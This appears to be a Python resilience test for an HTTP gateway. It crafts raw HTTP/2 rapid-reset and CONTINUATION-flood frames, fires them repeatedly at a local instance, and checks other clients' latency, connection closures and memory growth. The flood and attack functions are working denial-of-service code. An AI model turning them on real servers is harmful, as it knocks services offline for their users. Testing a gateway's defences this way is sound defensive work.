"""Abuse of HTTP/2 beside other people's requests: what it costs them, and what becomes of the abuser. `python3 attacks.py KIND PORT SECONDS`
is the abuser, over plain TCP, again and again on new connections."""
import socket
import struct
import subprocess
import sys
import time

import load
import peers

KINDS = {"reset": "rapid reset", "continuation": "CONTINUATION flood"}
PORT_SHIFT = 340                  # of the gateway that also speaks h2c
SECONDS, RATE, CONNECTIONS = 10, 2_000, 40
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS, END_STREAM = 4, 1
HEAD = b"\x82\x86\x84\x41\x09localhost"      # GET, http, /, localhost
STREAMS = 20_000


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def flood(kind):
    """gives: what is sent, and what is sent again and again after it"""
    start = PREFACE + frame(SETTINGS, 0, 0)
    if kind == "reset":
        return start + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                                for stream in range(1, 2 * STREAMS, 2)), b""
    more = b"\x40\x02xa\x04aaaa" * 100           # fields, as if there were no end of them
    return start + frame(HEADERS, END_STREAM, 1, HEAD), frame(CONTINUATION, 0, 1, more) * 1_000


def attack(kind, port, seconds):
    """gives: connections made, connections that the gateway closed"""
    first, more = flood(kind)
    made = closed = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), 10) as one:
            made += 1
            one.settimeout(5)
            try:
                one.sendall(first)
                while more and time.monotonic() < end:
                    one.sendall(more)
                while one.recv(65536):
                    pass
                closed += 1
            except ConnectionError:
                closed += 1
            except TimeoutError:
                pass
    return made, closed


def _p99(one, folder):
    return load.run(load.Workload("attacked", "", CONNECTIONS, rate=RATE), one, SECONDS, folder).p99


def measure(folder, line):
    """gives: lines for the results"""
    config = peers.variant(folder, "sluice.toml", "attacked", PORT_SHIFT, [
        (f'address = "127.0.0.1:{peers.SLUICE_PORT + PORT_SHIFT}"\n',
         f'address = "127.0.0.1:{peers.SLUICE_PORT + PORT_SHIFT}"\nprotocols = ["h1", "h2c"]\n')])
    one = peers.sluice("sluice-attacked", config, PORT_SHIFT)
    one.start(folder)
    found = []
    try:
        for kind, title in KINDS.items():
            calm = min(_p99(one, folder) for _ in range(2))
            before = one.resident_kib()
            # It gives way to the clients' own load, which shares its core: what is measured is the gateway.
            command = ["nice", "-n", "19", "taskset", "-c", peers.LOAD_CORE, sys.executable, __file__, kind, one.port, SECONDS + 1]
            abuser = subprocess.Popen([str(part) for part in command], stdout=subprocess.PIPE, text=True)
            attacked = _p99(one, folder)
            made, closed = map(int, abuser.communicate(timeout=60)[0].split())
            grown = (one.resident_kib() - before) / 1024
            found += [line(f"p99 of others beside a {title}", f"{calm * 1e3:.2f} to {attacked * 1e3:.2f} ms", "doubled", attacked <= 2 * calm),
                      line(f"{title}: connections not closed, of {made:,}", str(made - closed), "0", made > 0 and made == closed),
                      line(f"{title}: memory grown", f"{grown:.1f} MiB", "4 MiB", grown <= 4)]
    finally:
        one.stop()
    return found


if __name__ == "__main__":
    print(*attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
